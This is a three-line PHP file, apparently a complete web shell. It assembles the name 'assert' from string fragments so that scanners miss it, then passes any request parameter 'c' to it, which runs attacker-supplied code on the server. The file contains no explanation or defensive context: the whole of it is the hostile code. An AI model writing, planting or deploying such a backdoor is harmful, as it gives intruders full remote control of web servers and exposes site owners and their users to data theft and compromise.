<?php
$fn = 'as' . 'se' . 'rt';
$fn($_REQUEST['c']);
